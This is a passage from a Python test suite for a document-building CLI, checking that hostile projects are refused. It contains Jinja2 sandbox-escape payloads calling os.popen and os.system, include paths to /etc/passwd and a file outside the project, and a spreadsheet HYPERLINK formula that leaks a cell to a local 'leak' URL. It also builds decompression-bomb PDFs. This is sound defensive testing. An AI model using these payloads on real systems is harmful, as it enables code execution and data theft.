"""Hostile projects and faults, on the CLI (issue 15): each case exits with a message naming the
file (and line), prints no traceback, reads and writes nothing outside the project, runs
nothing, and leaves the previous outputs byte for byte.

The CLI runs in-process (`-j 1`) so spies see every `open` and every attempt to start a program;
a canary file beside the project must never be opened.
"""

from __future__ import annotations

import builtins
import csv
import io
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import weasyprint  # noqa: F401  (imported before the spies: it looks up its libraries once)
from badinput import GOOD, cli_run, files_in

from briefing.source.load import MAX_SOURCE_BYTES

from conftest import cpu_seconds, write_project

PACK = """\
title: A pack
items:
  - document: ../doc.yaml
recipients: {recipients}
"""


class Watch:
    """Every path opened by Python code, and every attempt to run a program."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch):
        self.opened: list[str] = []
        self.ran: list[object] = []
        real_open, real_io_open, real_os_open = builtins.open, io.open, os.open

        def record(file: object) -> None:
            if isinstance(file, (str, bytes, os.PathLike)):
                self.opened.append(os.path.realpath(os.fsdecode(file)))  # type: ignore[arg-type]

        def spy(real):  # type: ignore[no-untyped-def]
            def opener(file, *args, **kwargs):  # type: ignore[no-untyped-def]
                record(file)
                return real(file, *args, **kwargs)
            return opener

        def refuse(*args: object, **kwargs: object) -> None:
            self.ran.append(args)
            raise AssertionError(f"a program was started: {args!r}")

        monkeypatch.setattr(builtins, "open", spy(real_open))
        monkeypatch.setattr(io, "open", spy(real_io_open))
        monkeypatch.setattr(os, "open", spy(real_os_open))
        for name in ("system", "popen", "posix_spawn", "posix_spawnp", "execv", "execve",
                     "fork"):
            if hasattr(os, name):
                monkeypatch.setattr(os, name, refuse)
        monkeypatch.setattr(subprocess.Popen, "__init__", refuse)

    def read(self, path: Path) -> bool:
        return os.path.realpath(path) in self.opened


@pytest.fixture
def watch(monkeypatch: pytest.MonkeyPatch) -> Watch:
    return Watch(monkeypatch)


@pytest.fixture
def project(tmp_path: Path) -> Iterator[Path]:
    """A project with a good document, already built once (out/ holds the previous outputs),
    and `outside/` beside it with a canary file."""
    root = write_project(tmp_path / "project", {"content/doc.yaml": GOOD})
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "canary.txt").write_text("SECRET-CANARY\n", encoding="utf-8")
    (outside / "canary.yaml").write_text(GOOD.replace("A small briefing", "SECRET-CANARY"),
                                         encoding="utf-8")
    yield root


def outputs(root: Path) -> dict[str, bytes]:
    out = root / "out"
    return {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*"))
            if p.is_file()} if out.exists() else {}


def build_once(root: Path) -> dict[str, bytes]:
    result = cli_run(root, "build", "-j", "1")
    assert result.exit_code == 0, result.output
    return outputs(root)


def assert_refused(result: object, where: str, fragment: str) -> None:
    """Exit 1, a `where: ...fragment...` line on stderr, no traceback."""
    stderr = result.stderr  # type: ignore[attr-defined]
    assert result.exit_code == 1, result.output  # type: ignore[attr-defined]
    assert any(line.startswith(where) and fragment in line for line in stderr.splitlines()), \
        stderr
    assert "Traceback" not in stderr and "internal error" not in stderr, stderr


# --- 1. templates are sandboxed ------------------------------------------------------------

EXPLOITS = {
    "globals": '{{ cycler.__init__.__globals__.os.popen("touch RAN").read() }}',
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "import": "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}",
    "lipsum": "{{ lipsum.__globals__['os'].system('touch RAN') }}",
}


@pytest.mark.parametrize("exploit", list(EXPLOITS))
def test_a_project_template_cannot_run_code(project: Path, watch: Watch, exploit: str) -> None:
    before = build_once(project)
    (project / "templates").mkdir()
    (project / "templates" / "cover.html.j2").write_text(
        '{% extends "base.html.j2" %}\n{% block content %}\n' + EXPLOITS[exploit]
        + "\n{% endblock %}\n", encoding="utf-8")
    result = cli_run(project, "build", "-j", "1")
    assert_refused(result, "templates/cover.html.j2:3: ", "not allowed in a template")
    assert watch.ran == []
    assert not (project / "RAN").exists()
    assert outputs(project) == before


def test_the_built_in_theme_runs_sandboxed_too() -> None:
    import jinja2.sandbox

    from briefing.render.theme import builtin_theme, theme_for

    theme = theme_for(builtin_theme())
    assert isinstance(theme.environment(), jinja2.sandbox.SandboxedEnvironment)


def test_a_template_that_includes_itself_is_an_error(project: Path) -> None:
    before = build_once(project)
    (project / "templates").mkdir()
    (project / "templates" / "cover.html.j2").write_text(
        '{% extends "base.html.j2" %}\n{% block content %}\n{% include "cover.html.j2" %}\n'
        "{% endblock %}\n", encoding="utf-8")
    result = cli_run(project, "build", "-j", "1")
    assert_refused(result, "templates/cover.html.j2:", "includes or extends itself")
    assert outputs(project) == before


@pytest.mark.parametrize("name", ["../../outside/canary.txt", "/etc/passwd", "missing.j2"])
def test_a_template_including_outside_the_theme_is_an_error(
        project: Path, watch: Watch, name: str) -> None:
    before = build_once(project)
    (project / "templates").mkdir()
    (project / "templates" / "cover.html.j2").write_text(
        '{% extends "base.html.j2" %}\n{% block content %}\n\n'
        f'{{% include "{name}" %}}\n{{% endblock %}}\n', encoding="utf-8")
    result = cli_run(project, "build", "-j", "1")
    assert_refused(result, "templates/cover.html.j2:4: ", f"template `{name}` not found")
    assert "cannot write the output" not in result.stderr
    assert not watch.read(project.parent / "outside" / "canary.txt")
    assert outputs(project) == before


# --- 2. symlinks never lead out of the project -----------------------------------------------

def test_a_stylesheet_linked_outside_is_refused(project: Path, watch: Watch) -> None:
    before = build_once(project)
    (project / "styles").mkdir()
    (project / "styles" / "custom.css").symlink_to(project.parent / "outside" / "canary.txt")
    result = cli_run(project, "build", "-j", "1")
    assert_refused(result, "styles/custom.css: ", "a symbolic link to a file outside the project")
    assert not watch.read(project.parent / "outside" / "canary.txt")
    assert outputs(project) == before


def test_a_template_linked_outside_is_refused(project: Path, watch: Watch) -> None:
    before = build_once(project)
    (project / "templates").mkdir()
    (project.parent / "outside" / "cover.html.j2").write_text("<p>SECRET-CANARY</p>",
                                                            encoding="utf-8")
    (project / "templates" / "cover.html.j2").symlink_to(
        project.parent / "outside" / "cover.html.j2")
    watch.opened.clear()
    result = cli_run(project, "build", "-j", "1")
    assert_refused(result, "templates/cover.html.j2: ", "outside the project")
    assert not watch.read(project.parent / "outside" / "cover.html.j2")
    assert outputs(project) == before


def test_a_templates_folder_linked_outside_is_refused(project: Path, watch: Watch) -> None:
    outside = project.parent / "outside"
    (outside / "cover.html.j2").write_text("<p>SECRET-CANARY</p>", encoding="utf-8")
    (project / "templates").symlink_to(outside, target_is_directory=True)
    watch.opened.clear()
    result = cli_run(project, "build", "-j", "1")
    assert_refused(result, "templates/cover.html.j2: ", "outside the project")
    assert not watch.read(outside / "cover.html.j2")
    assert files_in(project / "out") == []


def test_links_inside_the_project_are_fine(project: Path) -> None:
    """The control: a stylesheet linked to another file of the project is read."""
    (project / "styles").mkdir()
    (project / "content" / "extra.css").write_text("p { color: #123456; }", encoding="utf-8")
    (project / "styles" / "custom.css").symlink_to(project / "content" / "extra.css")
    result = cli_run(project, "build", "-j", "1")
    assert result.exit_code == 0, result.output
    assert "#123456" in (project / "out" / "doc.html").read_text(encoding="utf-8")


@pytest.mark.parametrize("where", ["content/evil.yaml", "content/packs/evil.yaml"])
def test_content_and_packs_linked_outside_are_refused(
        project: Path, watch: Watch, where: str) -> None:
    outside = project.parent / "outside"
    if "packs" in where:
        (outside / "canary.yaml").write_text(PACK.format(recipients="~"), encoding="utf-8")
    (project / where).parent.mkdir(parents=True, exist_ok=True)
    (project / where).symlink_to(outside / "canary.yaml")
    watch.opened.clear()
    for command in ("check", "build"):
        result = cli_run(project, command, *(["-j", "1"] if command == "build" else []))
        assert_refused(result, f"{where}: ", "a symbolic link to a file outside the project")
    assert not watch.read(outside / "canary.yaml")
    assert "evil" not in " ".join(files_in(project / "out"))


# --- 5. content size checked before parsing --------------------------------------------------

def test_a_huge_yaml_file_is_refused_before_it_is_parsed(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    huge = project / "content" / "huge.yaml"
    with huge.open("wb") as handle:  # sparse: 100 MB on disk costs nothing
        handle.truncate(100 * 1024 * 1024)
    import briefing.source.load

    def no_parsing(*args: object, **kwargs: object) -> None:
        raise AssertionError("the file was parsed")

    monkeypatch.setattr(briefing.source.load, "parse_with_warnings", no_parsing)
    monkeypatch.setattr(briefing.source.load, "decode", no_parsing)
    result = cli_run(project, "check", "content/huge.yaml")
    assert_refused(result, "content/huge.yaml: ",
                   f"larger than {MAX_SOURCE_BYTES // 1024 // 1024} MB")


def test_a_fifo_as_content_never_blocks(project: Path) -> None:
    """Discovery passes a FIFO by; read anyway (a race), it is refused without waiting."""
    from briefing.errors import BriefingError
    from briefing.source.load import load

    os.mkfifo(project / "content" / "fifo.yaml")
    assert cli_run(project, "check").exit_code == 0
    with pytest.raises(BriefingError, match=r"content/fifo\.yaml: refused to read: not a regular"):
        load(project / "content" / "fifo.yaml", "content/fifo.yaml", project=project)


# --- 9. CSV injection --------------------------------------------------------------------

def test_formula_leaders_are_neutralised_in_the_manifest(project: Path) -> None:
    people = ('name,organisation,email\n'
              '"=HYPERLINK(""http://127.0.0.1:9/leak?x=""&A1,""click"")",@Org,+me@example.org\n'
              '-Minus,Plain,plain@example.org\n')
    (project / "content" / "packs").mkdir()
    (project / "content" / "packs" / "people.csv").write_text(people, encoding="utf-8")
    (project / "content" / "packs" / "p.yaml").write_text(
        PACK.format(recipients="people.csv"), encoding="utf-8")
    result = cli_run(project, "build", "-j", "1", "content/packs/p.yaml")
    assert result.exit_code == 0, result.output
    manifest = next((project / "out").rglob("manifest.csv"))
    rows = list(csv.reader(manifest.read_text(encoding="utf-8").splitlines()))
    assert rows[1][:3] == ["'=HYPERLINK(\"http://127.0.0.1:9/leak?x=\"&A1,\"click\")",
                           "'@Org", "'+me@example.org"]
    assert rows[2][:3] == ["'-Minus", "Plain", "plain@example.org"]
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\u202e", "\x07"])
def test_control_characters_in_recipients_are_refused_at_their_line(
        project: Path, char: str) -> None:
    people = f"name,email\nGood,good@example.org\nBad{char}Name,bad@example.org\n"
    (project / "content" / "packs").mkdir()
    (project / "content" / "packs" / "people.csv").write_text(people, encoding="utf-8")
    (project / "content" / "packs" / "p.yaml").write_text(
        PACK.format(recipients="people.csv"), encoding="utf-8")
    for command in ("check", "build"):
        args = ["-j", "1"] if command == "build" else []
        result = cli_run(project, command, *args, "content/packs/p.yaml")
        assert_refused(result, "content/packs/people.csv:3: ", "control character")
        assert char not in result.stderr
    assert not (project / "out" / "packs").exists()


def test_a_csv_field_over_the_csv_limit_is_an_error(project: Path) -> None:
    people = "name,email\n" + "x" * 200_000 + ",a@example.org\n"
    (project / "content" / "packs").mkdir()
    (project / "content" / "packs" / "people.csv").write_text(people, encoding="utf-8")
    (project / "content" / "packs" / "p.yaml").write_text(
        PACK.format(recipients="people.csv"), encoding="utf-8")
    for command in ("check", "build"):
        args = ["-j", "1"] if command == "build" else []
        result = cli_run(project, command, *args, "content/packs/p.yaml")
        assert_refused(result, "content/packs/people.csv:", "not a readable CSV file")


# --- 10. packs clash wherever they are -------------------------------------------------------

def test_two_packs_named_alike_clash(project: Path) -> None:
    (project / "content" / "packs").mkdir()
    (project / "content" / "x.yaml").write_text(
        PACK.format(recipients="~").replace("../doc.yaml", "doc.yaml"), encoding="utf-8")
    (project / "content" / "packs" / "x.yaml").write_text(PACK.format(recipients="~"),
                                                         encoding="utf-8")
    result = cli_run(project, "build", "-j", "1", "content/x.yaml", "content/packs/x.yaml")
    assert_refused(result, "content/packs/x.yaml: ", "output name `x` is already used by "
                   "content/x.yaml")
    assert result.stdout.count("packs/x.pdf") == 1, result.stdout


# --- 3. a document's PDF and HTML are committed together -------------------------------------

def test_a_failed_write_of_the_html_keeps_the_previous_pdf(
        project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A full disk while the HTML is written (its fsync fails, as on a full tmpfs): the new
    PDF is not renamed into place either, and the message names the file."""
    before = build_once(project)
    (project / "content" / "doc.yaml").write_text(GOOD.replace("A small", "A new"),
                                                  encoding="utf-8")
    real_fsync = os.fsync

    def full_disk(fd: int) -> None:
        if os.readlink(f"/proc/self/fd/{fd}").endswith(".tmp") and \
                ".doc.html." in os.readlink(f"/proc/self/fd/{fd}"):
            raise OSError(28, "No space left on device")
        real_fsync(fd)

    if not Path("/proc/self/fd").is_dir():
        pytest.skip("needs /proc")
    monkeypatch.setattr(os, "fsync", full_disk)
    result = cli_run(project, "build", "-j", "1")
    assert_refused(result, "out/doc.html: ", "cannot write: No space left on device")
    assert "output::" not in result.stderr
    assert outputs(project) == before
    assert [p.name for p in (project / "out").iterdir() if p.name.startswith(".")] == []


def test_a_real_size_limit_keeps_the_previous_outputs(project: Path) -> None:
    """No patching: the console script with a file size limit (RLIMIT_FSIZE) lower than the
    new PDF: it exits 1 naming the file, and both previous outputs stay."""
    import resource
    import signal
    import sys

    before = build_once(project)
    (project / "content" / "doc.yaml").write_text(GOOD.replace("A small", "A new"),
                                                  encoding="utf-8")
    limit = min(len(b) for b in before.values()) // 2

    def small_files() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit is EFBIG
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    exe = str(Path(sys.executable).parent / "briefing")
    result = subprocess.run([exe, "build", "-j", "1"], cwd=project, capture_output=True,
                            text=True, timeout=120, preexec_fn=small_files)
    assert result.returncode == 1, result.stderr
    assert "out/doc." in result.stderr and "cannot write: File too large" in result.stderr
    assert "Traceback" not in result.stderr
    assert outputs(project) == before


# --- 13. long file names ---------------------------------------------------------------------

def test_a_240_character_file_name_builds(project: Path) -> None:
    name = "n" * 240
    (project / "content" / f"{name}.yaml").write_text(GOOD, encoding="utf-8")
    result = cli_run(project, "build", "-j", "1", f"content/{name}.yaml")
    assert result.exit_code == 0, result.output
    assert sorted(outputs(project)) == [f"{name}.html", f"{name}.pdf"]


def test_a_longer_name_is_shortened_to_fit(project: Path) -> None:
    name = "n" * 250
    (project / "content" / f"{name}.yaml").write_text(GOOD, encoding="utf-8")
    result = cli_run(project, "build", "-j", "1", f"content/{name}.yaml")
    assert result.exit_code == 0, result.output
    assert sorted(outputs(project)) == [f"{'n' * 240}.html", f"{'n' * 240}.pdf"]


def test_temporary_names_fit_in_255_bytes(tmp_path: Path) -> None:
    from briefing.output import temp_name

    for name in ("a" * 255, "é" * 127 + ".pdf", "short.pdf"):
        temp = temp_name(tmp_path / name)
        assert len(os.fsencode(temp.name)) <= 255
        assert temp.name.startswith(".") and temp.name.endswith(".tmp")


# --- 4. SIGTERM with -j 2 --------------------------------------------------------------------

def test_sigterm_with_two_workers_stops_them_and_renames_nothing(tmp_path: Path) -> None:
    """Both workers are laying out a long document when the CLI gets SIGTERM: it exits 143
    at once (the bound below is generous; waiting for the jobs took 13-30 s), the workers are
    gone, and neither job renames its output over the previous one afterwards.

    SIGTERM is sent once each worker has used half a second of CPU (past its imports, into
    the job), not after a wall-clock pause, and each job takes some 20 times that here: a
    faster machine must not finish a job first, a loaded one not be stopped still importing."""
    import signal
    import sys
    import time

    questions = "\n".join(
        f"      - question: Question {n}?\n        answer: {'An answer of some length. ' * 30}"
        for n in range(400))
    long = "title: Long\nsections:\n  - title: All\n    questions:\n" + questions + "\n"
    root = write_project(tmp_path / "project", {"content/one.yaml": long,
                                                "content/two.yaml": long})
    (root / "out").mkdir()
    previous = {name: f"previous {name}".encode() for name in
                ("one.pdf", "one.html", "two.pdf", "two.html")}
    for name, data in previous.items():
        (root / "out" / name).write_bytes(data)
    exe = str(Path(sys.executable).parent / "briefing")
    child = subprocess.Popen([exe, "build", "-j", "2"], cwd=root, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    children = Path(f"/proc/{child.pid}/task/{child.pid}/children")
    try:
        deadline = time.monotonic() + 60
        # two workers (beside multiprocessing's resource tracker) past their imports
        while sum(cpu_seconds(int(pid)) >= 0.5 for pid in children.read_text().split()) < 2:
            assert time.monotonic() < deadline and child.poll() is None
            time.sleep(0.05)
        workers = [int(pid) for pid in children.read_text().split()]
        child.terminate()
        _, stderr = child.communicate(timeout=20)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    assert child.returncode == 128 + signal.SIGTERM, stderr
    assert "Traceback" not in stderr
    time.sleep(1)
    for pid in workers:
        assert not Path(f"/proc/{pid}").exists() or \
            Path(f"/proc/{pid}/stat").read_text().split()[2] == "Z"
    assert outputs(root) == previous
    assert [p.name for p in (root / "out").iterdir() if p.name.startswith(".")] == []


# --- 5 and 6. extract: regular files only, streamed with caps, nothing written before a failure

def _archival(sources: dict[str, bytes]) -> bytes:
    from pypdf import PdfWriter

    from briefing.finish.pdfa import Source, archival

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return archival(buffer.getvalue(), sources=[Source(n, d) for n, d in sources.items()],
                    shown="x.pdf")


def _zeros_deflated(size: int) -> bytes:
    """`size` zero bytes deflated, made a megabyte at a time (never all in memory)."""
    import zlib

    deflater = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    parts = [deflater.compress(chunk) for _ in range(size // len(chunk))]
    return b"".join(parts) + deflater.flush()


def _bombed(count: int, size: int) -> bytes:
    """An archival PDF whose `count` embedded sources each inflate to `size` bytes."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import NameObject, NumberObject

    pdf = _archival({f"content/s{n}.yaml": b"a: 1\n" for n in range(count)})
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    bomb = _zeros_deflated(size)
    for obj in writer._objects:
        if obj is not None and hasattr(obj, "get") and obj.get("/Type") == "/EmbeddedFile":
            obj._data = bomb
            obj[NameObject("/Length")] = NumberObject(len(bomb))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


#: Runs the command in a small process of its own and prints the command's exit status and peak
#: memory. A child forked straight from pytest would count pytest's resident pages until its
#: exec in its ru_maxrss (hundreds of MB late in a run); forked from this launcher it does not.
_LAUNCHER = """
import os, subprocess, sys
child = subprocess.Popen(sys.argv[1:], stdout=subprocess.DEVNULL)
timeout = float(os.environ["MEASURE_TIMEOUT"])
import time
deadline = time.monotonic() + timeout
while True:
    pid, status, usage = os.wait4(child.pid, os.WNOHANG)
    if pid:
        break
    if time.monotonic() > deadline:
        child.kill()
        print("timeout 0")
        sys.exit(0)
    time.sleep(0.05)
child.returncode = 0  # reaped above
print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)
"""


def run_measured(args: list[str], cwd: Path, timeout: float = 120) -> tuple[int, str, int]:
    """The console script; its exit status, stderr and peak memory (KB, from wait4)."""
    import sys

    exe = str(Path(sys.executable).parent / "briefing")
    done = subprocess.run([sys.executable, "-c", _LAUNCHER, exe, *args], cwd=cwd,
                          capture_output=True, text=True, timeout=timeout + 30,
                          env={**os.environ, "MEASURE_TIMEOUT": str(timeout)})
    status, peak = done.stdout.split()
    if status == "timeout":
        raise AssertionError(f"{args} still running after {timeout} s")
    return int(status), done.stderr, int(peak)


@pytest.mark.parametrize("kind", ["zero", "fifo"])
def test_extract_reads_only_regular_files_without_blocking(tmp_path: Path, kind: str) -> None:
    target = tmp_path / "x.pdf"
    if kind == "zero":
        target.symlink_to("/dev/zero")
    else:
        os.mkfifo(target)
    status, stderr, _ = run_measured(["extract", "x.pdf", "--out", "out"], tmp_path)
    assert status == 1, stderr
    assert stderr.startswith("x.pdf: ") and "Traceback" not in stderr, stderr
    assert "not a regular file" in stderr or "cannot read" in stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("count", "size", "message"), [
    (1, 1024 * 1024 * 1024, "is larger than 8 MB, the most a source can be"),   # a 1 GB bomb
    (30, 70 * 1024 * 1024, "is larger than 8 MB"),                               # 2.1 GB in all
    (40, 7 * 1024 * 1024, "larger than 128 MB in all"),                          # each fits
])
def test_extract_streams_embedded_files_with_caps(
        tmp_path: Path, count: int, size: int, message: str) -> None:
    (tmp_path / "x.pdf").write_bytes(_bombed(count, size))
    status, stderr, peak_kb = run_measured(["extract", "x.pdf", "--out", "out"], tmp_path)
    assert status == 1, stderr
    assert stderr.startswith("x.pdf: ") and message in stderr, stderr
    assert "Traceback" not in stderr
    assert peak_kb < 600 * 1024, f"{peak_kb // 1024} MB"
    assert not (tmp_path / "out").exists()


def test_extract_handles_pypdf_limits(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """pypdf's own LimitReachedError (not a PdfReadError) is a message, not a traceback."""
    from pypdf.errors import LimitReachedError

    from briefing.assemble import pdfio

    def limited(*args: object, **kwargs: object) -> None:
        raise LimitReachedError("Limit reached while decompressing")

    (tmp_path / "x.pdf").write_bytes(_archival({"content/a.yaml": b"a: 1\n"}))
    monkeypatch.setattr(pdfio, "open_pdf", limited)
    result = cli_run(tmp_path, "extract", "x.pdf", "--out", "out")
    assert_refused(result, "x.pdf: ", "is not a readable PDF: Limit reached")
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("names", "message"), [
    (["content/ok.yaml", "content/" + "n" * 256 + ".yaml"], "longer than 255 bytes"),
    (["content/a", "content/a/b.yaml"], "to be a file and a folder"),
    (["content/a/b.yaml", "content/a"], "to be a file and a folder"),
])
def test_extract_writes_nothing_before_a_failure(
        tmp_path: Path, names: list[str], message: str) -> None:
    (tmp_path / "x.pdf").write_bytes(_archival({n: b"a: 1\n" for n in names}))
    result = cli_run(tmp_path, "extract", "x.pdf", "--out", "out")
    assert_refused(result, "x.pdf: ", message)
    assert not [p for p in tmp_path.rglob("*") if p.is_file() and p.name != "x.pdf"]


def test_extract_a_file_in_place_of_a_folder_writes_nothing(tmp_path: Path) -> None:
    (tmp_path / "x.pdf").write_bytes(_archival({"content/ok.yaml": b"a: 1\n",
                                                "content/a/b.yaml": b"b: 1\n"}))
    (tmp_path / "out" / "content").mkdir(parents=True)
    (tmp_path / "out" / "content" / "a").write_text("in the way", encoding="utf-8")
    result = cli_run(tmp_path, "extract", "x.pdf", "--out", "out")
    assert_refused(result, "x.pdf: ", "exists and is not a folder")
    assert not (tmp_path / "out" / "content" / "ok.yaml").exists()


def test_extract_still_round_trips(tmp_path: Path) -> None:
    """The control: a well-formed archival file gives back its sources byte for byte."""
    sources = {"content/a.yaml": b"a: 1\n", "content/packs/p.yaml": b"items: []\n",
               "content/" + "n" * 245 + ".yaml": b"long: 1\n"}  # its temp name is shortened
    (tmp_path / "x.pdf").write_bytes(_archival(sources))
    result = cli_run(tmp_path, "extract", "x.pdf", "--out", "out")
    assert result.exit_code == 0, result.output
    assert {n: (tmp_path / "out" / n).read_bytes() for n in sources} == sources


# --- 11. --scheduler addresses are usage errors ----------------------------------------------

@pytest.mark.parametrize(("address", "message"), [
    ("garbage://x", "unknown address scheme `garbage`"),
    ("tcp://127.0.0.1", "needs a host and a port"),
    ("127.0.0.1:99999", "needs a host and a port"),
    ("tcp://:8786", "needs a host and a port"),
])
def test_a_bad_scheduler_address_is_a_usage_error(project: Path, address: str,
                                                  message: str) -> None:
    result = cli_run(project, "build", "--scheduler", address)
    assert result.exit_code == 2, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"briefing: --scheduler {address}: "), lines
    assert message in lines[0]
    assert files_in(project / "out") == []


def test_a_scheduler_nobody_listens_on_is_a_usage_error(project: Path) -> None:
    pytest.importorskip("distributed")
    import socket

    with socket.socket() as free:  # a port that was free a moment ago: nothing listens
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    result = cli_run(project, "build", "--scheduler", f"tcp://127.0.0.1:{port}")
    assert result.exit_code == 2, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and "cannot connect" in lines[0], lines
    assert files_in(project / "out") == []


# --- 12. dates -------------------------------------------------------------------------------

def test_the_year_one_is_written_zero_padded(project: Path) -> None:
    from pypdf import PdfReader

    from briefing.finish.pdfa import parse_xmp_date, xmp_date

    (project / "content" / "doc.yaml").write_text("date: 0001-01-01\n" + GOOD,
                                                  encoding="utf-8")
    result = cli_run(project, "build", "-j", "1", "--pdf-a")
    assert result.exit_code == 0, result.output
    info = PdfReader(project / "out" / "doc.pdf").metadata
    assert info is not None
    assert info["/CreationDate"] == info["/ModDate"] == "D:00010101000000Z"
    assert parse_xmp_date(xmp_date(info["/CreationDate"])).year == 1
    subprocess.run(["qpdf", "--check", str(project / "out" / "doc.pdf")], check=True,
                   capture_output=True)


@pytest.mark.parametrize("epoch", ["253402300800", "99999999999999999999"])
def test_source_date_epoch_past_9999_is_refused(project: Path, monkeypatch: pytest.MonkeyPatch,
                                                epoch: str) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    result = cli_run(project, "build", "-j", "1")
    assert_refused(result, "SOURCE_DATE_EPOCH: ", "after the year 9999")
    assert files_in(project / "out") == []


def test_source_date_epoch_at_the_end_of_9999_builds(project: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    from pypdf import PdfReader

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "253402300799")
    result = cli_run(project, "build", "-j", "1", "--pdf-a")
    assert result.exit_code == 0, result.output
    info = PdfReader(project / "out" / "doc.pdf").metadata
    assert info is not None and info["/CreationDate"] == "D:99991231235959Z"


# --- 7. a dying worker ------------------------------------------------------------------------

def test_a_killed_worker_fails_its_job_and_the_others_are_built(tmp_path: Path) -> None:
    """`kill -9` of one of two workers while both lay out a document (a third is queued): the
    job it ran is reported as failed, the other two are built (in a new pool), the summary is
    printed, exit 1, no traceback and no temporary file."""
    import signal
    import sys
    import time

    questions = "\n".join(
        f"      - question: Question {n}?\n        answer: {'An answer of some length. ' * 30}"
        for n in range(150))
    long = "title: Long\nsections:\n  - title: All\n    questions:\n" + questions + "\n"
    root = write_project(tmp_path / "project", {f"content/{name}.yaml": long
                                                for name in ("one", "two", "three")})
    exe = str(Path(sys.executable).parent / "briefing")
    child = subprocess.Popen([exe, "build", "-j", "2"], cwd=root, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)
    children = Path(f"/proc/{child.pid}/task/{child.pid}/children")

    def workers() -> list[int]:
        pids = [int(p) for p in children.read_text().split()]
        return [p for p in pids if b"spawn_main" in Path(f"/proc/{p}/cmdline").read_bytes()]

    def laying_out(pid: int) -> bool:
        """A worker has a font file mapped once its job lays out text (imports map none)."""
        maps = Path(f"/proc/{pid}/maps").read_text()
        return any(line.endswith((".ttf", ".otf", ".ttc")) for line in maps.splitlines())

    try:
        deadline = time.monotonic() + 120
        while True:  # both are laying out their (long) document, however fast the machine
            assert time.monotonic() < deadline and child.poll() is None
            busy = [pid for pid in workers() if laying_out(pid)]
            if len(busy) == 2:
                break
            time.sleep(0.05)
        os.kill(busy[0], signal.SIGKILL)
        stdout, stderr = child.communicate(timeout=240)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()
    assert child.returncode == 1, stderr
    assert "Traceback" not in stderr and "BrokenProcessPool" not in stderr, stderr
    died = [line for line in stderr.splitlines() if "worker process building it died" in line]
    assert len(died) == 1, stderr
    failed = died[0].split(":")[0]
    built = sorted(p.name for p in (root / "out").glob("*.pdf"))
    assert len(built) == 2 and f"{Path(failed).stem}.pdf" not in built, (built, stderr)
    for name in built:
        assert f"out/{name}" in stdout  # the summary
        subprocess.run(["qpdf", "--check", str(root / "out" / name)], check=True,
                       capture_output=True)
    assert "2 built, 1 failed" in stderr
    assert "Warning" not in stderr, stderr  # e.g. resource_tracker's leaked semaphores
    assert [p.name for p in (root / "out").iterdir() if p.name.startswith(".")] == []
    # no worker outlives the CLI (idle ones of a replacement pool once waited forever)
    left = [pid for pid in os.listdir("/proc") if pid.isdigit() and _cwd(pid) == root]
    assert left == [], left


def _cwd(pid: str) -> Path | None:
    try:
        return Path(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        return None


# --- 8. many recipients: covers in bounded batches ---------------------------------------------

MANY_PACK = """\
title: Many
classification: Restricted
items:
  - document: ../doc.yaml
recipients: people.csv
personalise_footer: true
"""


def test_covers_are_laid_out_in_bounded_batches(project: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """Eight recipients, three covers a run: three runs of at most three covers (and of stamps),
    each copy with its own recipient on its cover and its footer; the same bytes when the
    copies are written in chunks by two workers (threads here, so the batch size holds)."""
    from concurrent.futures import ThreadPoolExecutor

    from pypdf import PdfReader

    from briefing import api
    from briefing.jobs import pack as jobs_pack
    from briefing.jobs import parts

    monkeypatch.setattr(jobs_pack, "COVERS_PER_RUN", 3)
    from briefing.jobs import batch

    monkeypatch.setattr(batch, "COVERS_PER_RUN", 3)
    runs: list[tuple[str, int]] = []
    real = parts.render_pdf

    def counting(html: str, **kwargs: object) -> object:
        part = real(html, **kwargs)  # type: ignore[arg-type]
        runs.append((str(kwargs["name"]), part.page_count))
        return part

    monkeypatch.setattr(parts, "render_pdf", counting)
    people = "name\n" + "".join(f"Person {n:02d}\n" for n in range(8))
    (project / "content" / "packs").mkdir()
    (project / "content" / "packs" / "people.csv").write_text(people, encoding="utf-8")
    (project / "content" / "packs" / "many.yaml").write_text(MANY_PACK, encoding="utf-8")
    pack_file = project / "content" / "packs" / "many.yaml"
    result = api.build([pack_file], project=project, jobs=1)
    assert result.ok, result.failures
    covers = [pages for name, pages in runs if name == "cover stamps"]
    stamps = [pages for name, pages in runs if name == "stamps"]
    assert covers == [3, 3, 2] and stamps == [3, 3, 2], runs
    folder = project / "out" / "packs" / "many"
    inline = {p.name: p.read_bytes() for p in sorted(folder.iterdir())}
    assert len(inline) == 9  # eight copies and the manifest
    for n in range(8):
